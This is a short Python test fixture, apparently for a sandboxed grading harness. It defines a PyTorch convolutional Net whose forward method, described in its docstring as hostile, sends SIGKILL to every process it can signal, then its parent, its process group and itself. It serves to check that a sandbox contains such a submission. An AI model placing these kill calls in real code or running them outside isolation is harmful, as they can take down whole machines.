"""Hostile: forward sends SIGKILL to every process it may signal, its parent, then its own group.

Run as root in-process, `kill(-1, SIGKILL)` takes the whole machine down. Isolated: the child is
an unprivileged uid alone in its own PID namespace, so it can only kill itself: forward checks
fail with "killed by SIGKILL" and the grading (and everything else) goes on.
"""

import os
import signal

import torch.nn as nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(1, 10, kernel_size=5)
        self.conv2 = nn.Conv2d(10, 20, kernel_size=5)
        self.conv2_drop = nn.Dropout2d()
        self.fc1 = nn.Linear(320, 50)
        self.fc2 = nn.Linear(50, 10)

    def forward(self, x):
        for target in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.kill(os.getppid(), signal.SIGKILL),
                       lambda: os.killpg(0, signal.SIGKILL), lambda: os.kill(os.getpid(), signal.SIGKILL)):
            try:
                target()
            except OSError:
                pass
